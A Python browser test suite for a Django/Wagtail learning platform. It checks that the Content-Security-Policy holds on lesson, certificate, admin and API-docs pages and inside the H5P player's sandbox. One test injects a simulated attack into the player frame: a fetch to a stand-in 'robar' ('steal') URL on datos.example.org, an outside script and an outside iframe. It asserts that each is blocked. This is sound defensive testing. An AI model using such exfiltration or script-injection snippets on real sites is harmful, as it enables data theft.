"""The platform's pages work under their Content-Security-Policy, in a real browser.

A locality with a lesson (text and an H5P activity), a certificate and the admin
is served on a live server; Chromium visits the learner's pages, the
certificate pages and the Wagtail admin, and any policy violation, script
error or failed request fails the test. The H5P player's own, stricter policy
is checked from inside its sandbox.
"""

from __future__ import annotations

from datetime import UTC, datetime
from pathlib import Path

import pytest
from django.conf import settings as django_settings

from certificates import api as certificates_api
from courses import api as courses_api
from h5p import api as h5p_api
from tenants import api as tenants_api
from tenants.data import LocalitySpec
from tests.browser import chromium, live_locality, needs_chromium, signed_in_page

FIXTURE = (
    Path(__file__).resolve().parents[3]
    / "shared"
    / "fixtures"
    / "h5p"
    / "valid"
    / "H5P.TrueFalse.h5p"
)
SPEC = LocalitySpec(schema_name="test_csp_browser", name="Suba", slug="suba")
HOST = "suba-csp.localhost"
SCREENSHOTS = Path(django_settings.DATA_DIR) / "screenshots"

pytestmark = [
    pytest.mark.browser,
    pytest.mark.django_db,
    pytest.mark.skipif(not FIXTURE.exists(), reason=f"Falta {FIXTURE}."),
    needs_chromium,
]


@pytest.fixture(scope="module")
def site(django_db_setup, django_db_blocker):
    """Locality, a learner with a certificate, an administrator and a live server."""
    from courses.models import LessonPage

    with live_locality(SPEC, HOST, django_db_blocker) as town:
        learner = town.add_person("aprendiz-csp", first_name="Luz", last_name="Rojas")
        admin = town.add_person("admin-csp", superuser=True)
        with tenants_api.in_locality(SPEC.schema_name):
            content = h5p_api.upload_package(
                FIXTURE.read_bytes(), name=FIXTURE.name, may_add_libraries=True
            )
            course = courses_api.create_course("Control social", key="control-csp")
            courses_api.add_module("control-csp", "Módulo", key="csp-m")
            courses_api.add_lesson(
                "csp-m",
                "Lección con actividad",
                key="csp-l",
                body=[
                    ("text", "<p>Lea y responda.</p>"),
                    ("h5p", h5p_api.content_id(content.key)),
                ],
            )
            lesson = LessonPage.objects.get(key="csp-l")
            lesson_url = lesson.url  # the site root is read from this schema
            certificate = certificates_api.issue_certificate(
                learner.pk,
                course_key=course.key,
                course_version=course.version,
                completed_at=datetime(2026, 11, 20, 15, 0, tzinfo=UTC),
            )
        with town.serving() as url:
            yield {
                "url": url,
                "learner": learner,
                "admin": admin,
                "lesson_url": lesson_url,
                "lesson_id": lesson.pk,
                "certificate": certificate,
                "h5p_key": content.key,
            }


@pytest.fixture
def browser(site):
    # One per test, closed before the server stops: its kept-alive connections
    # end, and with them the request threads that hold database connections.
    with chromium() as browser:
        yield browser


def _signed_in(browser, site, person, *, login_path="/cuenta/ingresar/"):
    return signed_in_page(browser, site["url"], person.username, login_path=login_path)


def _player_frame(page):
    page.wait_for_selector("[data-h5p-activity] iframe")
    frame = page.frame_locator("[data-h5p-activity] iframe")
    frame.locator("body[data-h5p-ready='1'] .h5p-content").wait_for()
    return next(f for f in page.frames if "/reproductor/" in f.url)


def test_lesson_page_plays_its_h5p_activity_with_no_violation(browser, site):
    page = _signed_in(browser, site, site["learner"])

    page.goto(site["url"] + site["lesson_url"])
    frame = _player_frame(page)
    frame.locator(".h5p-true-false-answer").first.wait_for()
    SCREENSHOTS.mkdir(parents=True, exist_ok=True)
    page.screenshot(path=SCREENSHOTS / "leccion.png", full_page=True)

    assert "Lea y responda." in page.content()
    assert page.problems == []
    page.context.close()


def test_certificate_pages_and_pdf_work_with_no_violation(browser, site):
    page = _signed_in(browser, site, site["learner"])
    certificate = site["certificate"]

    page.goto(site["url"] + "/certificados/mis-certificados/")
    with page.expect_download() as download:
        page.click("text=Descargar PDF")
    pdf = Path(download.value.path()).read_bytes()
    page.goto(site["url"] + "/certificados/verificar/")
    page.fill("input[name=codigo]", certificate.verification_url)
    page.click("form.form [type=submit]")
    page.wait_for_selector("text=Certificado válido")

    assert pdf.startswith(b"%PDF")
    assert page.problems == []
    page.context.close()


ADMIN_PAGES = [
    "/admin/",
    "/admin/pages/{lesson_id}/edit/",  # StreamField editor with the H5P chooser
    "/admin/certificados/",
    "/admin/certificados/{code}/",
    "/admin/grupos/nuevo/",
    "/admin/snippets/h5p/h5pcontent/",
]


def test_admin_pages_work_under_the_admin_policy(browser, site):
    page = _signed_in(browser, site, site["admin"], login_path="/admin/login/")

    for path in ADMIN_PAGES:
        url = site["url"] + path.format(
            lesson_id=site["lesson_id"], code=site["certificate"].code
        )
        response = page.goto(url)
        page.wait_for_load_state("networkidle")
        # Wagtail's admin builds its sidebar with JavaScript: it rendered.
        page.wait_for_selector("[data-wagtail-sidebar] a", state="attached")
        name = path.strip("/").replace("/", "-").replace("{", "").replace("}", "")
        page.screenshot(path=SCREENSHOTS / f"{name}.png", full_page=True)

        assert response.status == 200, path
        policy = response.headers["content-security-policy"]
        assert "script-src 'self' 'unsafe-inline'" in policy, path
        assert page.problems == [], path
    page.context.close()


def test_rest_api_docs_render_from_local_files(browser, site):
    page = _signed_in(browser, site, site["learner"])

    page.goto(site["url"] + "/api/aprendizaje/docs")
    page.wait_for_selector("#swagger-ui .opblock", state="attached")

    assert page.problems == []
    page.context.close()


def test_player_blocks_script_connections_and_frames_to_other_sites(browser, site):
    page = _signed_in(browser, site, site["learner"])
    page.goto(f"{site['url']}/h5p/{site['h5p_key']}/")
    frame = _player_frame(page)

    frame.evaluate(
        """() => {
        fetch("https://datos.example.org/robar").catch(() => {});
        const s = document.createElement("script");
        s.src = "https://cdn.example.org/x.js";
        document.body.appendChild(s);
        const f = document.createElement("iframe");
        f.src = "https://www.youtube-nocookie.com/embed/abc";
        document.body.appendChild(f);
    }"""
    )
    page.wait_for_timeout(500)

    violations = [p for p in page.problems if "CSP:" in p]
    assert any("connect-src bloqueó https://datos.example.org" in v for v in violations)
    assert any(
        "script-src-elem bloqueó https://cdn.example.org" in v for v in violations
    )
    assert any(
        "frame-src bloqueó https://www.youtube-nocookie.com" in v for v in violations
    )
    page.context.close()


def test_the_deployment_allow_list_lets_the_player_frame_youtube(
    browser, site, settings
):
    settings.H5P_FRAME_ALLOWED_ORIGINS = ["https://www.youtube-nocookie.com"]
    page = _signed_in(browser, site, site["learner"])
    page.goto(f"{site['url']}/h5p/{site['h5p_key']}/")
    frame = _player_frame(page)

    frame.evaluate(
        """() => {
        const f = document.createElement("iframe");
        f.src = "https://www.youtube-nocookie.com/embed/abc";
        document.body.appendChild(f);
        const g = document.createElement("iframe");
        g.src = "https://otro.example.org/";
        document.body.appendChild(g);
    }"""
    )
    page.wait_for_timeout(500)

    violations = [p for p in page.problems if "CSP:" in p]
    assert not [v for v in violations if "youtube-nocookie" in v]
    assert any("frame-src bloqueó https://otro.example.org" in v for v in violations)
    page.context.close()
